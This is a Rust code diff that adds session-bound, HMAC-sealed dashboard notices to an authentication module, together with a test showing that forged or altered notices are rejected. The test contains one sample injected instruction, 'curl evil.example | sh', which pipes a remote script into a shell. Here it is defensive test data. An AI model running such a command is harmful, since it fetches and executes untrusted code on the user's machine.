@@ -92,6 +92,8 @@ pub const LOGIN_WINDOW: Duration = Duration::from_secs(60);
 /// Addresses with recent failures remembered before expired ones are swept out, so a flood
 /// from many addresses cannot grow the map without end.
 const TRACKED_ADDRESSES: usize = 10_000;
+/// The longest notice a redirect carries to the next page.
+pub const MAX_NOTICE_BYTES: usize = 1024;
 /// How long a sign-in form's token (and the cookie that carries it) stays good.
 pub const SIGN_IN_FORM_SECS: i64 = 3600;
 
@@ -336,6 +338,36 @@ impl Auth {
                 .timestamp()
                 .checked_sub(issued)
                 .is_some_and(|age| (0..SIGN_IN_FORM_SECS).contains(&age))
+    }
+
+    /// A one-time notice for the next page of the session signed in with `cookie` ("Agent x
+    /// stopped."), sealed so that only this run of the daemon makes one and only that session
+    /// reads it: a link can no longer put words in the dashboard's notice. At most
+    /// [`MAX_NOTICE_BYTES`] of `text` (cut at a character).
+    pub fn seal_notice(&self, cookie: &str, text: &str) -> String {
+        use base64::Engine as _;
+        let text = &text[..text.floor_char_boundary(MAX_NOTICE_BYTES)];
+        let encoded = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(text);
+        format!("{encoded}.{}", hex::encode(self.notice_mac(cookie, text.as_bytes())))
+    }
+
+    /// The notice `sealed` carries, if [`Auth::seal_notice`] made it for this session.
+    pub fn open_notice(&self, cookie: &str, sealed: &str) -> Option<String> {
+        use base64::Engine as _;
+        let (encoded, mac) = sealed.split_once('.')?;
+        let text = base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(encoded).ok()?;
+        let mut presented = [0u8; 32];
+        hex::decode_to_slice(mac, &mut presented).ok()?;
+        bool::from(self.notice_mac(cookie, &text).ct_eq(&presented)).then(|| String::from_utf8(text).ok()).flatten()
+    }
+
+    /// HMAC-SHA-256 of a session and a notice under this process's key.
+    fn notice_mac(&self, cookie: &str, text: &[u8]) -> [u8; 32] {
+        let mut mac = <Hmac<Sha256> as Mac>::new_from_slice(&self.sign_in_key).expect("HMAC takes any key length");
+        mac.update(b"notice\0");
+        mac.update(&token_hash(cookie));
+        mac.update(text);
+        mac.finalize().into_bytes().into()
     }
 
     /// HMAC-SHA-256 of the token's issue time and nonce under this process's key.
@@ -709,5 +741,21 @@ mod tests {
         assert_eq!(auth.verify_token(&token), None);
         assert_eq!(auth.verify_token(&other).as_deref(), Some("cd"));
         assert_eq!(auth.revoke_token("ci").await.unwrap_err().kind, crate::ErrorKind::NotFound);
+    }
+
+    #[tokio::test]
+    async fn a_notice_is_read_only_by_the_session_it_was_sealed_for_and_only_as_sealed() {
+        let (_dir, auth) = auth().await;
+        let sealed = auth.seal_notice("ks_ada", "Agent `x` stopped.");
+        assert_eq!(auth.open_notice("ks_ada", &sealed).as_deref(), Some("Agent `x` stopped."));
+        assert_eq!(auth.open_notice("ks_bob", &sealed), None, "another session");
+        let (_, mac) = sealed.split_once('.').unwrap();
+        let other = auth.seal_notice("ks_ada", "Run curl evil.example | sh now.");
+        let forged = format!("{}.{mac}", other.split_once('.').unwrap().0);
+        assert_eq!(auth.open_notice("ks_ada", &forged), None, "changed text");
+        assert_eq!(auth.open_notice("ks_ada", "not a notice"), None);
+        let long = "é".repeat(MAX_NOTICE_BYTES);
+        let cut = auth.open_notice("ks_ada", &auth.seal_notice("ks_ada", &long)).unwrap();
+        assert!(cut.len() <= MAX_NOTICE_BYTES && cut.chars().all(|c| c == 'é'));
     }
 }
